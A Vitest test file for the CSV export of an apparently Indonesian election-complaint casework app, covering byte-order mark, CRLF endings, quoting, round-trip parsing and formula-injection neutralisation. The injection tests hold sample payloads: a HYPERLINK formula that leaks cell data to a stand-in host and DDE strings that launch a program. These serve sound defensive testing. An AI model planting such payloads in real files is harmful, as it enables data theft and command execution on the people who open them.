import { describe, expect, it } from "vitest";
import { CSV_BOM, csvField, toCsv } from "../../src/casework/csv";

/** A minimal RFC 4180 reader, to prove the output reads back to what went in. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(field);
      field = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += char;
  }
  if (field !== "" || row.length > 0) throw new Error("last record not ended by CRLF");
  return rows;
}

describe("CSV export", () => {
  it("starts with a UTF-8 byte-order mark so Excel reads Indonesian text right", () => {
    const csv = toCsv(["Desa", "Cerita"], [["Lalang", "Pemilu café — «amplop»"]]);
    const bytes = Buffer.from(csv, "utf8");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(bytes.toString("utf8").slice(1)).toBe(
      "Desa,Cerita\r\nLalang,Pemilu café — «amplop»\r\n",
    );
  });

  it("ends every record, the last one too, with CRLF", () => {
    const csv = toCsv(
      ["a", "b"],
      [
        ["1", "2"],
        ["3", "4"],
      ],
    );
    expect(csv).toBe(`${CSV_BOM}a,b\r\n1,2\r\n3,4\r\n`);
  });

  it("quotes fields with a comma, a quote or a line break and doubles the quotes", () => {
    expect(csvField("Desa Lalang, Manggar")).toBe('"Desa Lalang, Manggar"');
    expect(csvField('timses bilang "ini uang bensin"')).toBe('"timses bilang ""ini uang bensin"""');
    expect(csvField("baris satu\nbaris dua")).toBe('"baris satu\nbaris dua"');
    expect(csvField("baris satu\r\nbaris dua")).toBe('"baris satu\r\nbaris dua"');
    expect(csvField("tanpa tanda")).toBe("tanpa tanda");
  });

  it("reads back to the same fields with an RFC 4180 reader", () => {
    const header = ["Kode", "Kategori", "Cerita", "Jumlah"];
    const rows = [
      [
        "LPR-7K3M-Q9X2",
        "politik_uang",
        'tadi pagi ada bagi2 amplop 100rb,\r\n"dari timses paslon 2"',
        12,
      ],
      ["LPR-2H8D-R4TW", "apk", "", 0],
    ];
    const parsed = parseCsv(toCsv(header, rows).slice(CSV_BOM.length));
    expect(parsed).toEqual([header, ...rows.map((row) => row.map(String))]);
  });

  it("writes null and undefined as empty fields", () => {
    expect(toCsv(["a", "b", "c"], [[null, undefined, "x"]])).toBe(`${CSV_BOM}a,b,c\r\n,,x\r\n`);
  });

  it("neutralises text that a spreadsheet would run as a formula", () => {
    expect(csvField('=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")')).toBe(
      `"'=HYPERLINK(""http://contoh.invalid/?d=""&A1,""klik"")"`,
    );
    expect(csvField("+62 812-3456-7890")).toBe("'+62 812-3456-7890");
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvField("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csvField("\t=1+1")).toBe("'\t=1+1");
    expect(csvField("\r=1+1")).toBe('"\'\r=1+1"');
  });

  it("keeps numbers passed as numbers, negative ones too, as numbers", () => {
    expect(toCsv(["selisih", "rasio"], [[-3, -0.25]])).toBe(
      `${CSV_BOM}selisih,rasio\r\n-3,-0.25\r\n`,
    );
    // The same text typed by the public is neutralised.
    expect(csvField("-3")).toBe("'-3");
    expect(csvField(Number.NaN)).toBe("");
  });

  it("neutralises the header row as well as the data", () => {
    expect(toCsv(["=cmd", "ok"], [])).toBe(`${CSV_BOM}'=cmd,ok\r\n`);
  });
});
